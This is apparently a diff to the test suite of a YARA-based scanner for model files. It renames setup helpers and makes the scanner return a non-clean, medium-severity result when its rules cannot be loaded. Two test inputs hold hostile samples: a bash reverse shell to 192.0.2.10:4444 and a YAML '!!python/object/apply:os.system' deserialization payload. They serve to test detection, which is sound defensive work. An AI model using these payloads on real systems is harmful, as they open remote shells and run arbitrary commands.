@@ -16,16 +16,18 @@ from modelscreen.schemas.rules import SCOPES, RuleBundle, RuleMeta
 from modelscreen.engine import Limits, scan_bytes
 from modelscreen.engine.context import ScanContext
 from modelscreen.engine.limits import Budget
+from modelscreen.settings import apply_engine_settings
 from modelscreen.engine.yara import (
     default_ruleset,
     load_ruleset,
     match,
-    reset_default_ruleset,
+    configure_default_ruleset,
     ruleset_from_bundle,
 )
 from modelscreen.engine.yara.hook import SMALL_ARTIFACT, scan_with_rules
 from modelscreen.engine.yara.loader import ENGINES, RulesetError, parse_meta, parse_rules
-from modelscreen.rules_cli import load_samples, rules
+from modelscreen.rule_bundles import load_samples
+from modelscreen.rules_cli import rules
 
 REPO = Path(__file__).resolve().parents[2]
 RULES_DIR = REPO / "rules" / "yara"
@@ -42,10 +44,10 @@ def rulesets():
 @pytest.fixture
 def default_env(monkeypatch):
     """Isolate the process-wide default ruleset from environment changes made by a test."""
-    reset_default_ruleset()
+    configure_default_ruleset()
     yield monkeypatch
     monkeypatch.undo()
-    reset_default_ruleset()
+    configure_default_ruleset()
 
 
 def _elf() -> bytes:
@@ -224,16 +226,16 @@ def test_benign_samples_stay_clean_through_the_engine(sample):
 
 def test_engine_works_when_the_rules_cannot_be_loaded(default_env, tmp_path):
     default_env.setenv("MODELSCREEN_RULES_DIR", str(tmp_path / "missing"))
-    reset_default_ruleset()
+    apply_engine_settings()
     [report] = scan_bytes(b"bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n", "a.sh")
     assert [f.rule_id for f in report.findings] == ["YARA-RULES-UNAVAILABLE"]
-    assert report.findings[0].severity is Severity.info
-    assert report.error is None and report.verdict is Verdict.clean
+    assert report.findings[0].severity is Severity.medium  # never clean without the rules
+    assert report.verdict is not Verdict.clean
 
 
 def test_yara_python_is_selected_by_environment(default_env):
     default_env.setenv("MODELSCREEN_YARA_ENGINE", "yara-python")
-    reset_default_ruleset()
+    apply_engine_settings()
     rs, reason = default_ruleset()
     assert reason is None and rs.engine_name == "yara-python"
     [report] = scan_bytes(b"x = '!!python/object/apply:os.system [\"true\"]'\n", "c.yaml")
